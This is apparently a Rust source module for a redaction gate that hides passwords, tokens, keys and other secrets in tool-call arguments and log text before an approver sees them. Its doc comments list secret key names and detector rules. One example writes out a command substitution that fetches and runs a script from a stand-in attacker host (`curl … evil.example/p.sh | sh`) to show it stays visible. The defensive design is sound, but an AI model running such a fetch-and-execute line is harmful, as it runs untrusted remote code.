//! Redaction of call arguments and free text before they are stored, shown,
//! emitted or logged (contract §4 and §16, "Redaction v2", and §21.6–§21.7,
//! "the approver sees what will run" and "Redaction v3"; §26.7, "Redaction
//! v4"). Raw arguments
//! never leave the gate; this is the only way out.
//!
//! Three ways in: [`redact`] makes the *excerpt* (bounded, every record,
//! event and envelope carries it), [`redact_full`] the *whole form* (every
//! string whole, capped at [`FULL_ARGUMENTS_CAP`] bytes with the cap stated;
//! `full.rs`), [`redact_text`] any free text. A call's arguments go through
//! [`redact_call`] and [`redact_call_full`], the same with the call's
//! function id: inside a value that can run (a `shell::*` call's `command`
//! and `args`, contract §25.8) only whole literal argument words are hidden
//! — program words, substitutions and the shell's structure stay, a `-c`
//! string is redacted inside by the same rule, an `env` value run as the
//! program (`$TOOL`) is shown — and [`Full::hidden_command`] tells the
//! reviewer that it did not see the whole command (`command.rs`).
//!
//! # What is redacted
//!
//! * **Secret keys.** Under a key that [`is_secret_key`] names, every scalar
//!   (string, number, boolean, null) becomes `"<redacted>"`; an object or
//!   array there keeps its shape and is walked, its keys shown and each
//!   scalar replaced, however deep (`{"auth": {"user": "<redacted>",
//!   "pass": "<redacted>"}}`), so the approver sees what the arguments hold
//!   without its values. Key names are split into words (ASCII case,
//!   camelCase, kebab-case, dots, spaces, underscores) and secret when
//!   their words end in a name of [`SECRET_NAMES`]: `password passwords
//!   passwd pwd passphrase secret secrets client-secret secret-key
//!   secret-key-base token access-token refresh-token session-token
//!   auth-token api-token id-token api-key api-keys apikey access-key
//!   access-keys private-key private-keys account-key signing-key
//!   encryption-key master-key app-key auth authorization
//!   proxy-authorization cookie cookies set-cookie credential credentials
//!   creds`, or in `pass` joined to an earlier word (`DB_PASS`,
//!   `mailPass`), and the one-time codes of version 4: `otp`, `otp code`,
//!   `totp`, `totp code`, `mfa code`, `pin`, `pin code`, `passcode`. The
//!   rule, the run-together forms (`PGPASSWORD`) and the
//!   look-alikes decided either way (`author`, `max_tokens`, `auth_mode`,
//!   `passage`, `keyboard`, `PWD`, `bypass`) are documented in `keys.rs`.
//! * **Secret pairs.** An object with a `name` or `key` whose string value
//!   is secret-named, and a `value` (the three field names in any ASCII
//!   case), has its `value` redacted like a secret key's: environment lists
//!   (`[{"name": "DB_PASSWORD", "value": "<redacted>"}]`), HAR and Postman
//!   headers (`{"key": "Authorization", "value": "<redacted>"}`), AWS tags.
//!   `{"name": "PATH", "value": "/usr/bin"}` stays.
//! * **Argv arrays.** In an array, an element after a secret-taking flag is
//!   redacted (`["curl", "-u", "admin:<redacted>"]`, `["mysql",
//!   "--password", "<redacted>"]`, `["redis-cli", "-a", "<redacted>"]`), as
//!   is a short flag's attached value (`["mysql", "-p<redacted>"]`). Long
//!   secret-named flags count after any command, short ones (`-p`, `-a`)
//!   only after the commands that give them a secret (`ls -a`, `ssh -p
//!   2222`, `cargo test -p crate` stay): the table and its reasons are in
//!   `argv.rs`. Version 4 adds `redis-cli --pass <v>` / `--pass=<v>`,
//!   `htpasswd -b FILE USER <v>` (`-nb USER <v>`), and `config set NAME
//!   <v>` / `configure set …` / `user-secrets set …` with a secret-named
//!   `NAME` (`["aws", "configure", "set", "aws_secret_access_key",
//!   "<redacted>"]`). An object's `command` names the command of its argv
//!   arrays.
//! * **Secrets fed on standard input.** An object whose `command` or one of
//!   whose arrays holds `--password-stdin`, `--askpass` or `--with-token`
//!   has its `stdin` field redacted like a secret key's; in a command line,
//!   a here-string in a simple command with one of those flags
//!   (`docker login --password-stdin <<< "<redacted>"`).
//! * **Secret spans in strings.** Every string — values and object keys in
//!   [`redact`], any free text in [`redact_text`] — passes the value
//!   detectors of `detect.rs`, which replace only the secret span with
//!   `<redacted>`: auth schemes (`Authorization: Bearer <redacted>`,
//!   `Basic <redacted>`, however short Basic credentials are), JWTs, URL
//!   userinfo passwords (`postgres://app:<redacted>@db/prod`), `curl -u
//!   user:<redacted>`, secret-named assignments (`export
//!   GITHUB_TOKEN=<redacted> && gh pr list`, `password: "<redacted>"`,
//!   `--api-key <redacted>`, `DB_PASS=<redacted>`,
//!   `SECRET_KEY_BASE=<redacted>`), netrc entries (`machine h login u
//!   password <redacted>`), short secret flags (`mysql -p<redacted>`,
//!   `sshpass -p <redacted>`, `redis-cli --pass <redacted>`, `htpasswd -b
//!   f u <redacted>`), configuration writes (`aws configure set
//!   aws_secret_access_key <redacted>`), Azure SAS signatures
//!   (`&sig=<redacted>`), PEM private-key blocks (the whole block),
//!   and the provider token formats of `providers.rs` (AWS, GitHub,
//!   GitLab, Slack, OpenAI, Anthropic, Stripe, Google, npm, PyPI, Twilio,
//!   SendGrid, Shopify, DigitalOcean, Hugging Face, Azure and about fifty
//!   more), whose patterns come from the gitleaks default rule set
//!   (`config/gitleaks.toml`, github.com/gitleaks/gitleaks).
//! * **Never a substitution.** A command or process substitution (`$(…)`,
//!   `` `…` ``, `<(…)`, `>(…)`) inside a value the detectors replace is
//!   shown as it is, with the detectors run inside it like anywhere else:
//!   `export API_TOKEN="$(curl -fsSL https://evil.example/p.sh | sh)" &&
//!   npm test` is shown whole; a literal value around it still goes
//!   (`subst.rs`, `detect.rs`).
//!
//! # Limits of the excerpt
//!
//! * a string longer than 256 Unicode code points keeps its first 256 and
//!   ends with the mark `…[+N chars]`, `N` the number of code points cut;
//!   object keys are clipped the same way (keys are output too);
//! * an array or object at depth 64 or more becomes `"<max-depth>"`, the
//!   root being at depth 0 — so 64 nested containers survive, the 65th is
//!   replaced;
//! * a container keeps at most 256 entries, and entries stop being added
//!   once the output reaches [`OUTPUT_BUDGET`] bytes; an array marks what it
//!   dropped with a trailing `"<+N more>"`, an object with a
//!   `"<truncated>": N` entry. The serialized output never exceeds
//!   [`MAX_OUTPUT_BYTES`].
//!
//! # Order of operations
//!
//! For each object entry: the secret-key test on the original key (so a key
//! clipped or redacted on output still hides its value); then the key and
//! every string value are *detected, then clipped*: the detectors run on the
//! string before it is cut, so a secret straddling code point 256 is
//! replaced whole instead of leaving its first half visible. Detection looks
//! at the first 256 code points plus [`DETECT_WINDOW_BYTES`] — what starts
//! later is cut anyway, and a construct still open at the window's end (a
//! private key without its end line, an unclosed quote) is redacted to that
//! end. The cut never falls inside a detected construct: it moves back to
//! the construct's start (`… TOKEN=<redacted>` or `…`, never `TOKEN=<reda…`
//! or `Authorization: Bea…`), so the output may hold fewer than 256 code
//! points before the mark.
//!
//! Redacting twice changes nothing: a string's clip mark is recognised and
//! carried over (only the text before it is redacted again, and its count
//! grows by whatever a new cut takes), the detectors find nothing new in
//! their own output (a marker keeps the word boundaries around it, and a
//! value starting with `<` is not a secret), the container markers are
//! recognised and carried over (their counts included), and the output
//! budget is charged by the output, so a second pass sees the same — or
//! smaller — costs at every point and keeps every entry. A string that may
//! read differently to a second pass — it holds a substitution, whose
//! reading depends on the whole text, or a replaced span held a quote, a
//! backtick, a backslash or a parenthesis of a construct around it (a
//! private key running over a closing quote) — is also redacted pass after
//! pass until a pass leaves it as it is; real text settles on the second
//! pass, a string that has not after four becomes `<redacted>`.
//!
//! # Cost
//!
//! The walk recurses at most [`MAX_DEPTH`] levels, so arbitrarily deep input
//! is safe. Detection is one pass of one multi-pattern automaton over each
//! string, linear in its length (a candidate's forward searches are shared
//! with the candidates after it), plus, only where they may matter: one
//! pass that finds a text's substitutions (a quoted or header value that
//! holds an opener), the command-line reader (a text with a short flag
//! such as ` -p`), and a confirming second pass (a result that holds a
//! substitution, or replacements that may read differently a second time).
//! Medians on the two-core development machine, shared, load average
//! 1.7–3.4 (`cargo bench --bench micro -- redact`): [`redact_text`] on a
//! 20 KB shell command with 127 secrets (bearer JWTs, exported tokens,
//! database URLs, private keys) 120–151 µs, on the same shapes without a
//! secret 47–59 µs; [`redact`] on an argument object holding that command
//! 50–67 µs, on a 10 KB argument object 50–73 µs, on a 1 MB one 415–516 µs
//! (version 2's code, measured alongside at load ~2: 104, 41, –, 44 and
//! 394 µs). [`redact_full`] is linear in its input: one whole pass, and at
//! most two more over its (smaller) output.

use std::borrow::Cow;

use serde_json::Value;

mod argv;
mod command;
mod detect;
mod full;
mod keys;
mod marks;
mod providers;
mod subst;
mod walk;

pub use full::{redact_call_full, redact_full, Full, FULL_ARGUMENTS_CAP};
pub use keys::{is_secret_key, SECRET_NAMES};
pub(crate) use marks::mark_in;

/// What a secret becomes.
pub const REDACTED: &str = "<redacted>";
/// What a container nested too deep becomes.
pub(crate) const MAX_DEPTH_MARK: &str = "<max-depth>";
/// The first character of a clipped string's mark, `…[+N chars]`.
pub(crate) const CLIP_MARK: char = '…';
/// Code points of the longest clip mark (`…[+` + 20 digits + ` chars]`).
pub(crate) const CLIP_MARK_MAX_CHARS: usize = 30;
/// The object key that counts the entries an object lost.
pub(crate) const TRUNCATED_KEY: &str = "<truncated>";
/// Strings (and keys) longer than this many code points are clipped in the
/// excerpt.
pub const MAX_STRING_CHARS: usize = 256;
/// The most code points an excerpt's string or key has: the kept ones and
/// the mark.
pub const MAX_CLIPPED_CHARS: usize = MAX_STRING_CHARS + CLIP_MARK_MAX_CHARS;
/// Containers at this depth or deeper (root = 0) are replaced.
pub const MAX_DEPTH: usize = 64;
/// A container keeps at most this many entries in the excerpt.
pub const MAX_ENTRIES: usize = 256;
/// Entries stop being added once the excerpt reaches this many bytes.
pub(crate) const OUTPUT_BUDGET: usize = 64 * 1024;
/// Hard bound on the serialized (compact JSON) size of an excerpt: the
/// budget, plus the last entry admitted below it (at most a clipped key and
/// a clipped string, fully escaped) and one marker per open container.
pub const MAX_OUTPUT_BYTES: usize = OUTPUT_BUDGET + 8 * 1024;

/// Bytes after what may be shown of a string that the detectors still read
/// before it is clipped.
pub(crate) const DETECT_WINDOW_BYTES: usize = 8 * 1024;

/// The excerpt: the redacted copy of `value`, bounded (see the module docs
/// for the rules).
pub fn redact(value: &Value) -> Value {
    #[cfg(test)]
    calls::count();
    walk::Walk::new(
        walk::Limit::Chars(MAX_STRING_CHARS),
        Some(MAX_ENTRIES),
        Some(OUTPUT_BUDGET),
    )
    .run(value)
}

/// The excerpt of a call's arguments: [`redact`], except that inside a
/// value that can run — a `shell::*` call's `command` and `args` —
/// redaction hides only whole literal argument words, never a program
/// word, a substitution or the shell's structure (contract §25.8;
/// `command.rs`).
pub fn redact_call(function_id: &str, value: &Value) -> Value {
    #[cfg(test)]
    calls::count();
    walk::Walk::new(
        walk::Limit::Chars(MAX_STRING_CHARS),
        Some(MAX_ENTRIES),
        Some(OUTPUT_BUDGET),
    )
    .of_call(function_id)
    .run(value)
}

/// `text` with every secret span the value detectors find replaced by
/// `<redacted>`, for free text that leaves the worker outside an argument
/// object: session titles, descriptions and metadata values, log fields.
/// Nothing is clipped; text without a secret is returned as it is. Like a
/// string of [`redact`], text that may read differently to a second pass
/// is redacted pass after pass until a pass leaves it as it is (at most
/// four; then it becomes `<redacted>`).
pub fn redact_text(text: &str) -> Cow<'_, str> {
    #[cfg(test)]
    calls::count();
    let found = detect::scan(text, true);
    if found.spans.is_empty() {
        return Cow::Borrowed(text);
    }
    let mut current = detect::apply(text, &found).text;
    if !found.may_unsettle(text) && !subst::may_hold_one(&current) {
        return Cow::Owned(current);
    }
    for _ in 1..4 {
        let found = detect::scan(&current, true);
        let next = detect::apply(&current, &found).text;
        if next == current {
            return Cow::Owned(current);
        }
        current = next;
    }
    Cow::Owned(REDACTED.to_owned())
}

/// Whether `text` holds what a value detector takes for a secret (a token
/// format, `password=…`, a URL's password …): the test the gate puts every
/// id of a call through (contract §26.5). One pass of the detectors'
/// automaton, no allocation when nothing is found; a text shorter than the
/// shortest secret (`pwd=x`) is not read at all.
pub fn holds_secret(text: &str) -> bool {
    !detect::scan(text, true).spans.is_empty()
}

/// How many times this thread entered the redactor (unit tests only): the
/// gate's tests prove continue and deny never do.
#[cfg(test)]
pub(crate) mod calls {
    use std::cell::Cell;

    thread_local! {
        static CALLS: Cell<u64> = const { Cell::new(0) };
    }

    pub(super) fn count() {
        CALLS.with(|c| c.set(c.get() + 1));
    }

    /// Entries into [`super::redact`], [`super::redact_full`] and
    /// [`super::redact_text`] so far on this thread.
    pub(crate) fn so_far() -> u64 {
        CALLS.with(Cell::get)
    }
}

#[cfg(test)]
mod tests;
